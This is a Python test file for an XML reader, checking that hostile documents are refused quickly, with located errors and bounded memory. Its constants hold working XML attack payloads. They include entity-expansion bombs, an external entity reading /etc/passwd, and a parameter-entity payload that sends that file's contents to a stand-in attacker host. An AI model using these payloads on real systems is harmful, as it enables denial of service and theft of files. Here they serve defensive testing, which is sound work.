"""cords.reader against hostile documents: each refused with a located error, quickly and in
bounded memory (traced Python memory; libxml2 is never reached by most of these)."""
from __future__ import annotations

import random

import pytest
from lxml import etree

from cords import legacy, reader
from cords.diagnostics import ERROR, Diagnostics, Location
from cords.reader import Limits, read_document, read_file

MB = 1024 * 1024
BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10))
                  + b']>\n<lolz x="&lol9;">&lol9;</lolz>')
QUADRATIC_BLOWUP = (b'<!DOCTYPE kaboom [<!ENTITY a "' + b"x" * 50_000 + b'">]>\n<kaboom>'
                    + b"&a;" * 50_000 + b"</kaboom>")
EXTERNAL_ENTITY = b'<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>'
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE manifest SYSTEM "http://attacker.example/evil.dtd">\n<manifest/>'
PARAMETER_ENTITIES = (b'<?xml version="1.0"?>\n<!DOCTYPE foo [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n'
                      b' <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.example/?%file;\'>">\n'
                      b' %eval; %exfil;\n]>\n<foo/>')


#: Seconds a multi-megabyte hostile document may take under tracemalloc on a loaded machine:
#: far above the 1-2 s a linear pass takes here, far below what a quadratic one would (hours).
LINEAR = 30


def read(data: bytes, limits: Limits = Limits(), name: str = "h.xml"):
    diagnostics = Diagnostics()
    return read_document(data, name=name, diagnostics=diagnostics, limits=limits), diagnostics


def refused(measured, code: str, line: int, column: int | None = None, *, seconds: float = 2.0,
            peak: int = 16 * MB) -> None:
    """The document was refused with exactly one error ``code`` at that place, fast and small."""
    document, diagnostics = measured.result
    assert document is None
    errors = diagnostics.errors
    assert [e.code for e in errors] == [code], [str(d) for d in diagnostics]
    assert errors[0].severity == ERROR and errors[0].location.line == line
    if column is not None:
        assert errors[0].location.column == column
    assert measured.seconds < seconds, measured.seconds
    assert measured.peak_bytes < peak, measured.peak_bytes


@pytest.mark.parametrize("data, line, column", [
    (BILLION_LAUGHS, 2, 1),
    (QUADRATIC_BLOWUP, 1, 1),
    (EXTERNAL_ENTITY, 2, 1),
    (EXTERNAL_DTD, 2, 1),
    (PARAMETER_ENTITIES, 2, 1),
    (b"\n\n<!DOCTYPE a>\n<a/>", 3, 1),
    (b"<!-- a comment first -->  <!DOCTYPE a [<!ENTITY e 'x'>]><a>&e;</a>", 1, 27),
    (b"<!doctype a><a/>", 1, 1),
])
def test_doctypes_are_refused_before_parsing(measure, data, line, column):
    measured = measure(lambda: read(data))
    refused(measured, reader.DOCTYPE, line, column, peak=MB)
    assert "root:" not in str(measured.result[1].errors[0])     # nothing of /etc/passwd leaks


def test_the_parser_itself_would_not_expand_or_fetch_entities(tmp_path):
    """Defence in depth, should a DOCTYPE ever get past the scan."""
    with pytest.raises(etree.XMLSyntaxError):
        etree.fromstring(BILLION_LAUGHS, reader._parser())      # libxml2's amplification guard
    root = etree.fromstring(EXTERNAL_ENTITY, reader._parser())
    assert "root:" not in etree.tostring(root, encoding="unicode")
    root = etree.fromstring(EXTERNAL_DTD, reader._parser())     # not fetched: load_dtd=False, no_network
    assert root.tag == "manifest"
    # A local external subset is not even opened (its content would be an error if it were).
    dtd = tmp_path / "evil.dtd"
    dtd.write_text("this is not a DTD")
    root = etree.fromstring(b'<!DOCTYPE x SYSTEM "%s"><x/>' % str(dtd).encode(), reader._parser())
    assert root.tag == "x"


def test_ten_thousand_deep(measure):
    refused(measure(lambda: read(b"<a>" * 10_000 + b"</a>" * 10_000)), reader.TOO_DEEP, 1, 64 * 3 + 1, peak=MB)
    refused(measure(lambda: read(b"<a>\n" * 10_000 + b"</a>\n" * 10_000)), reader.TOO_DEEP, 65, 1, peak=MB)


def test_depth_limit_is_ours_and_configurable(measure):
    nested = b"<a>" * 20 + b"<b/>" + b"</a>" * 20
    assert read(nested)[0] is not None
    refused(measure(lambda: read(nested, Limits(max_depth=10))), reader.TOO_DEEP, 1, 31)
    # Self-closing elements, legacy '/1>' ones included, do not nest.
    flat = b"<a>" + b'<n vlan="1M"/1>' * 100 + b"<b/>" * 100 + b"</a>"
    document, diagnostics = read(flat, Limits(max_depth=2))
    assert document is not None and len(document.root) == 200
    # Above lxml's own limit (256) its error is still reported, located.
    document, diagnostics = read(b"<a>" * 300 + b"</a>" * 300, Limits(max_depth=1000))
    assert document is None and diagnostics.errors[0].code == reader.MALFORMED
    assert diagnostics.errors[0].location.line == 1 and diagnostics.errors[0].location.column > 700


def test_too_many_elements(measure):
    data = b"<a>\n" + b"<b/>" * 1_000 + b"<c/>\n</a>"
    refused(measure(lambda: read(data, Limits(max_elements=1_000))), reader.TOO_MANY_ELEMENTS, 2, 3_997)
    many = b"<a>" + b"<b/>" * 250_000 + b"</a>"     # 1 MB, over the default 200,000
    refused(measure(lambda: read(many)), reader.TOO_MANY_ELEMENTS, 1, 3 + 4 * 199_999 + 1, seconds=LINEAR, peak=32 * MB)


def test_fifty_megabytes_are_refused_on_size_before_parsing(measure):
    data = b"<a>" + b"x" * (50 * MB) + b"</a>"
    refused(measure(lambda: read(data)), reader.TOO_LARGE, 0, 0, seconds=0.5, peak=64 * 1024)


def test_a_large_file_is_refused_without_being_read(measure, tmp_path):
    path = tmp_path / "huge.xml"
    with open(path, "wb") as stream:        # sparse: costs no disk
        stream.truncate(50 * MB)
    measured = measure(lambda: (read_file(path, diagnostics=(d := Diagnostics())), d))
    refused(measured, reader.TOO_LARGE, 0, 0, seconds=0.5, peak=64 * 1024)
    assert measured.result[1].errors[0].location == Location(str(path))


@pytest.mark.parametrize("data, line, column", [
    ('<a x="é">\n  <b>'.encode() + b"\xc3(</b></a>", 2, 6),      # broken sequence in a UTF-8 file
    (b"<a>\n <b>\x81</b></a>", 2, 5),                            # undefined even in Windows-1252
    ('<a x="é"/>'.encode() + b"\n<!-- \xe9\xe9 -->", 2, 6),      # UTF-8 and Latin-1 mixed
    ("<a>é</a>\n".encode() + b"\xf0\x9f\x98", 2, 1),              # truncated at the end
    (b"<a>\xed\xa0\x80 \xc3\xa9</a>", 1, 4),                      # an encoded surrogate
])
def test_invalid_utf8_is_a_located_error(measure, data, line, column):
    refused(measure(lambda: read(data)), reader.INVALID_UTF8, line, column, peak=MB)


def test_invalid_windows_1252_is_a_located_error():
    document, diagnostics = read(b'<?xml version="1.0" encoding="windows-1252"?>\n<a>\x81</a>')
    assert document is None
    assert [(d.code, d.location) for d in diagnostics] == [(reader.ENCODING, Location("h.xml", 2, 4))]


@pytest.mark.parametrize("data, line, column", [
    (b"<a>\n  <b x='1\x00'/></a>", 2, 10),
    (b"<a>\x00</a>", 1, 4),
    (b"<a>\x01\x02</a>", 1, 4),
    (b"\x00<a/>", 1, 1),
    ("<a>\n\ufffe</a>".encode(), 2, 1),
])
def test_forbidden_characters_are_located_errors(measure, data, line, column):
    refused(measure(lambda: read(data)), reader.INVALID_CHARACTER, line, column, peak=MB)


def test_a_ten_megabyte_attribute(measure):
    data = b'<manifest>\n  <node name="' + b"n" * (10 * MB) + b'"/>\n</manifest>'
    refused(measure(lambda: read(data)), reader.TOO_LARGE, 0, 0, peak=64 * 1024)
    # Even when the size is allowed, the attribute is refused at its place before lxml sees it.
    refused(measure(lambda: read(data, Limits(max_bytes=32 * MB))), reader.ATTRIBUTE_TOO_LONG, 2, 15,
            peak=4 * len(data))


def test_hostile_tag_shapes_stay_linear(measure):
    """Shapes that make naive tag regexes backtrack or keep per-character state."""
    shapes = [
        b"<a " + b"/" * (2 * MB) + b'"">',
        b'<a x="' * 300_000,
        b"<a " + b"x" * MB + b" <b " + b"y" * MB,
        b"<a " + b"x" * (5 * MB) + b">",
        b"<a>" + b"&" * (2 * MB) + b"</a>",
        b"<a>" + b"& " * MB + b"</a>",
        b"<a>" + b'<b x="1" x="2"/>' * 100_000 + b"</a>",
    ]
    for data in shapes:
        measured = measure(lambda: read(data))
        assert measured.seconds < LINEAR, (data[:20], measured.seconds)
        assert measured.peak_bytes < 40 * len(data), (data[:20], measured.peak_bytes)
        document, diagnostics = measured.result
        assert len(diagnostics) <= diagnostics.limit
        assert all(len(d.message) < 300 for d in diagnostics)  # no megabyte-long messages


def test_garbage_is_not_repaired_piecemeal():
    """A document needing more than MAX_REPAIRS repairs gets one error, not a flood of warnings."""
    data = b"<a>" + b'<b x="1" x="2"/>' * (legacy.MAX_REPAIRS + 5) + b"</a>"
    document, diagnostics = read(data)
    assert document is None
    assert [(d.code, d.location.line) for d in diagnostics] == [(reader.MALFORMED, 1)]
    assert 14 <= diagnostics.items[0].location.column <= 19     # libxml2 points at or after the 2nd x
    assert "too many" in diagnostics.items[0].message


def test_unterminated_constructs():
    for data in (b"<a><!-- never closed</a>", b"<a><![CDATA[ never closed</a>", b"<a><?pi never closed</a>",
                 b'<a x="never closed/>', b"<a", b"<"):
        document, diagnostics = read(data)
        assert document is None and diagnostics.errors[0].code == reader.MALFORMED
        assert diagnostics.errors[0].location.line == 1


def test_random_damage_never_raises():
    """Seeded mutations of a small manifest: a Document or None, never an exception, and every
    document that is returned has every element located on its start tag."""
    base = ('<?xml version="1.0" encoding="UTF8"?>\n<manifest name="m" xmlns="urn:m">\n'
            '  <node name="n" provider="openstack"><!-- c -->\n'
            '    <infrastructure name=":i"><compute cores="2" memory="1G"/></infrastructure>\n'
            '  </node>\n  <configuration><action expression="n.system(\'a &amp;&amp; b\');"/></configuration>\n'
            '</manifest>\n').encode()
    alphabet = b'<>/="\'&;! ?x\n\t\xc3\xa9\xe9\x00-[]'
    rng = random.Random(20240601)
    for _ in range(600):
        data = bytearray(base)
        for _ in range(rng.randint(1, 4)):
            i = rng.randrange(len(data))
            choice = rng.random()
            if choice < 0.4:
                data[i:i] = bytes([rng.choice(alphabet)])
            elif choice < 0.8:
                del data[i]
            else:
                data[i] = rng.choice(alphabet)
        document, diagnostics = read(bytes(data))
        assert (document is None) == bool(diagnostics.errors), [str(d) for d in diagnostics]
        if document is not None:
            lines = document.source.split("\n")
            for element in document.root.iter():
                where = document.location(element)
                assert where.column >= 1 and lines[where.line - 1][where.column - 1:].startswith("<")
